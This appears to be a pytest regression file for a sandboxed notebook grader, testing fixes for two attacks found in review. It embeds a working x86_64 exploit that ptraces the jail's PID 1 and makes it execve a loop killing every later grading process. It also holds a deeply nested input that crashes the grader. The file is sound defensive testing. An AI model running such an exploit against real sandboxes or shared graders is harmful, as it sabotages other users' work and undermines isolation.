"""Attacks found in review that broke the jailed grader (each test failed before its fix).

1. A learner ptraced the jail's PID 1 (then bubblewrap's own init: same uid, dumpable, and immune to the
   server's ``kill -1``), made it execve a loop that SIGKILLs every later job in that jail, and scored
   full marks itself: every classmate graded after it in the same jail scored 0, blamed on their code.
   Now the server is PID 1 (undumpable) and a jail serves one student; with a bwrap too old for
   ``--as-pid-1``, a changed init retires the jail.
2. A graded cell whose source is nested deeply (a long attribute chain) made ``forbidden_imports``
   raise RecursionError in the grader: the student got no grade at all and the batch exited 1.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import grading_fixture as fx

FIXTURE = Path(fx.__file__)
D = "# GRADED FUNCTION: double\n"

HIJACK = D + r"""import numpy as np

def _hijack_jail_init():
    # Ptrace the jail's PID 1 (bwrap's init: same uid, dumpable, immune to the server's kill -1) and make it
    # execve a Python loop that SIGKILLs every later job process in this jail.
    import os, sys, ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, 1, None, None) != 0:          # PTRACE_ATTACH
        return "attach failed %d" % ctypes.get_errno()
    os.waitpid(1, 0x40000000)                         # __WALL
    regs = (ctypes.c_ulonglong * 27)()
    libc.ptrace(12, 1, None, ctypes.byref(regs))      # PTRACE_GETREGS
    rip, rsp = regs[16], regs[19]
    me = os.getpid()
    loop = ("import os,time\n"
            "while os.path.exists('/proc/%d/status') and 'zombie' not in open('/proc/%d/status').read():"
            " time.sleep(0.005)\n"
            "while True:\n"
            " for p in os.listdir('/proc'):\n"
            "  if p.isdigit() and int(p) > 2:\n"
            "   try: os.kill(int(p), 9)\n"
            "   except OSError: pass\n"
            " time.sleep(0.002)\n") % (me, me)
    args = [sys.executable.encode(), b"-I", b"-S", b"-c", loop.encode()]
    base = (rsp + 4096) & ~15                         # overwrite init's own (soon discarded) stack
    blob, ptrs, off = b"", [], 8 * (len(args) + 2)
    for a in args:
        ptrs.append(base + off + len(blob)); blob += a + b"\0"
    table = b"".join(struct.pack("<Q", p) for p in ptrs) + struct.pack("<Q", 0) + struct.pack("<Q", 0)
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(base); mem.write(table + blob)
        mem.seek(rip - 2); sc = mem.read(2)
    if sc != b"\x0f\x05":
        libc.ptrace(17, 1, None, None); return "no syscall insn at rip-2: %r" % sc
    regs[10] = 59                                     # rax = execve
    regs[15] = 2**64 - 1                              # orig_rax = -1 (no syscall restart)
    regs[14], regs[13], regs[12] = ptrs[0], base, base + 8 * len(args)  # rdi, rsi (argv), rdx (envp: NULL)
    regs[16] = rip - 2
    libc.ptrace(13, 1, None, ctypes.byref(regs))      # PTRACE_SETREGS
    libc.ptrace(17, 1, None, None)                    # PTRACE_DETACH
    return "hijacked"


_hijack_jail_init()

def double(x):
    return 2 * np.asarray(x)
"""


def _grade(submissions: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "bnlab.cli", "grade", str(submissions), "--out", str(out),
           "--course", str(FIXTURE), "--timeout", "5", *fx.jail_flags(), *extra]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=300)


def _points(out: Path, student: str) -> dict:
    state = json.loads((out / "students" / student / "grade.json").read_text())
    return state["points"]


@pytest.mark.skipif(fx.jail_flags() != [] or os.uname().machine != "x86_64",
                    reason="the jail's init is attacked with x86_64 registers")
def test_a_learner_cannot_take_over_the_jail_init_and_zero_later_students(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    fx.notebook(subs / "a_attacker" / "ex01_double.ipynb", [HIJACK])
    for victim in ("b_victim", "c_victim", "d_victim"):
        fx.notebook(subs / victim / "ex01_double.ipynb", [fx.DOUBLE_CELL])
        fx.notebook(subs / victim / "ex02_pair.ipynb", fx.PAIR_CELLS)
    result = _grade(subs, out, "--jobs", "1")
    assert result.returncode == 0, result.stderr
    for victim in ("b_victim", "c_victim", "d_victim"):
        points = _points(out, victim)
        assert points["ex01"] == 4 and points["ex02"] > 0, (victim, points,
                                                            (out / "students" / victim / "feedback.md").read_text())


def test_a_deeply_nested_graded_cell_is_graded_not_a_grader_failure(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    deep = fx.DOUBLE_CELL + "\n_unused = lambda: a" + ".b" * 300000 + "\n"
    fx.notebook(subs / "deep" / "ex01_double.ipynb", [deep])
    fx.notebook(subs / "good" / "ex01_double.ipynb", [fx.DOUBLE_CELL])
    result = _grade(subs, out, "--jobs", "2")
    assert result.returncode == 0, result.stderr   # was: 1, "error grading deep: RecursionError"
    assert (out / "students" / "deep" / "grade.json").exists()
    assert _points(out, "good")["ex01"] == 4


@pytest.mark.skipif(fx.jail_flags() != [] or os.uname().machine != "x86_64",
                    reason="the jail's init is attacked with x86_64 registers")
def test_with_a_bwrap_that_cannot_run_the_server_as_pid_1_a_taken_over_init_retires_the_jail(monkeypatch):
    """The fallback for a bubblewrap without --as-pid-1 (bwrap's own init stays PID 1): after the takeover the
    server sees PID 1 changed and retires the jail, so even that student's next notebook runs in a new one."""
    from bnlab.grading.sandbox import jail
    from bnlab.grading.sandbox.client import Limits, jail_session, run_learner

    jail.probe()
    monkeypatch.setattr(jail, "_flags", frozenset())  # as if bwrap knew neither --as-pid-1 nor --disable-userns
    call = [{"function": "double", "args": (3,), "kwargs": {}, "key": "d", "returns": None, "copy_check": False}]
    pid = ("# GRADED FUNCTION: double\nimport os\n\n"
           "def double(x):\n    return [os.getpid(), open('/proc/1/comm').read()]\n")
    limits = Limits(timeout=10, jail=True)
    with jail_session():
        before = run_learner([("double", 0, pid)], call, limits).outcomes["d"]["value"]
        hijack = run_learner([("double", 0, HIJACK)], call, limits)
        after = run_learner([("double", 0, pid)], call, limits)
    assert before[1].strip() == "bwrap", "the fallback is in use: bwrap's init is PID 1"
    assert hijack.status == "ok", hijack.message
    assert after.status == "ok", after.message
    assert after.outcomes["d"]["value"] == before, "a new jail, with bwrap's own init, for the next notebook"
